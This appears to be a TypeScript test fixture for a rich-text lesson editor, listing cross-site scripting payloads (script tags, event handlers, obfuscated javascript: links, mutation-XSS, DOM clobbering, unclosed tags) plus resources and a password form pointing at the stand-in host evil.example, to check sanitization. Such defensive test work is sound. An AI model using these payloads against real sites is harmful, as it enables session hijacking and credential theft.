/** Where hostile texts try to lead. Nobody's, by RFC 2606. */
export const elsewhere = 'http://evil.example'

/** What a lesson keeps of every hostile text: the words around it. */
export const keptWords = 'Kept to the end.'

/** Each tells on itself by calling `stolen` if it ever runs, or by asking another host. */
const closed = [
  `<script>stolen('script')</script>`,
  `<SCRIPT\n>stolen('capitals')</SCRIPT\n>`,
  `<scr<script>ipt>stolen('nested')</scr</script>ipt>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<script type="module">import '${elsewhere}/m.js'</script>`,
  `</script><script>stolen('way out of the data')</script>`,
  `<img src=x onerror=stolen('img')>`,
  `<img/src="data:,"/onerror=stolen('slashes')>`,
  `<img src="${elsewhere}/pixel.png" srcset="${elsewhere}/pixel2.png 2x">`,
  `<svg onload=stolen('svg')><script>stolen('script in svg')</script><animate attributeName=x dur=1s onbegin=stolen('animate')></animate><use href="data:image/svg+xml,<svg id='x'/>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=stolen('mutation')&gt;"></mglyph></table></mtext></math>`,
  `<math href="javascript:stolen('math')">formula</math>`,
  `<details open ontoggle=stolen('toggle')>more</details>`,
  `<input autofocus onfocus=stolen('focus')>`,
  `<p onclick="stolen('click')" onmouseover="stolen('mouseover')" onpointerenter="stolen('pointer')" tabindex=0 onfocus="stolen('focus of p')">hover</p>`,
  `<video src="${elsewhere}/v.webm" onerror=stolen('video')><source onerror=stolen('source')></video>`,
  `<marquee onstart=stolen('marquee')>m</marquee>`,
  `<a href="javascript:stolen('link')">link</a>`,
  `<a href="JaVa\tScRi\npt:stolen('spaced link')">link</a>`,
  `<a href="&#106;avascript&colon;stolen('link in entities')">link</a>`,
  `<a href="\u0001javascript:stolen('link behind a control character')">link</a>`,
  `<a href="ｊavascript:stolen('wide letters')">link</a>`,
  `<a href="data:text/html,<script>opener.stolen('data link')</script>" target="_blank">link</a>`,
  `<a href="vbscript:stolen('vbscript')">link</a>`,
  `<a href="//evil.example/a">link</a><a href="\\\\evil.example\\a">link</a>`,
  `<a href="x" ping="${elsewhere}/ping" onclick="stolen('ping')">link</a>`,
  `<iframe src="${elsewhere}/"></iframe><iframe srcdoc="<script>parent.stolen('srcdoc')</script>"></iframe><iframe src="javascript:parent.stolen('frame')"></iframe>`,
  `<object data="${elsewhere}/o"></object><embed src="${elsewhere}/e">`,
  `<style>@import url(${elsewhere}/s.css); body { background: url(${elsewhere}/bg.png) }</style>`,
  `<p style="background:url(${elsewhere}/p.png);position:fixed;inset:0">over all</p>`,
  `<link rel="stylesheet" href="${elsewhere}/l.css"><link rel="prefetch" href="${elsewhere}/l">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/"><meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<base href="${elsewhere}/">`,
  `<form action="${elsewhere}/" id="main"><input name="password"><button formaction="javascript:stolen('button')">Sign in again</button></form>`,
  `＜script＞stolen('wide brackets')＜/script＞ \u202E<b>turned</b>\u202C \u2028 \uFEFF`,
  `&lt;script&gt;stolen('entities')&lt;/script&gt; &amp;lt;img src=x onerror=stolen('twice')&amp;gt; \\u003cscript>stolen('escape')\\u003c/script>`,
  `<a id="documentElement" name="body">clobber</a><p id="__reactRouterContext" name="nonce">clobber</p>`,
]

/** What begins and never ends, to take the rest of the page with it; each stands in a lesson of its own. */
const open = ['<!--', '<plaintext>', '<textarea>', '<xmp>', '<noscript><p title="</noscript>', '<title><style>', '<template>', '<select><option>', '<![CDATA[', '<p title="', '<svg><desc><![CDATA[</desc>']

/** The editor's own document, as JSON: the form takes HTML, and this is no more than words to it. */
const asDocument = JSON.stringify({ type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'x', marks: [{ type: 'link', attrs: { href: `javascript:stolen('document')`, onclick: `stolen('mark')` } }] }] }, { type: 'script', content: [{ type: 'text', text: `stolen('node')` }] }] })

/** Texts of lessons that mean harm, each to be saved and looked at by itself. */
export const hostileTexts: string[] = [
  `${closed.join('\n')}<p>${keptWords}</p>`,
  `<p>${asDocument.replace(/</g, '&lt;')}</p><p>${keptWords}</p>`,
  ...open.map((beginning) => `<p>${keptWords}</p>${beginning}<img src="data:," onerror="stolen('after ${beginning.replace(/["<>]/g, '')}')"><script>stolen('script after it')</script>`),
]

/** A title is words, whatever stands in it. */
export const hostileTitle = `</title></script><script>stolen('title')</script><img src=x onerror=stolen('title')>"'\${1}`
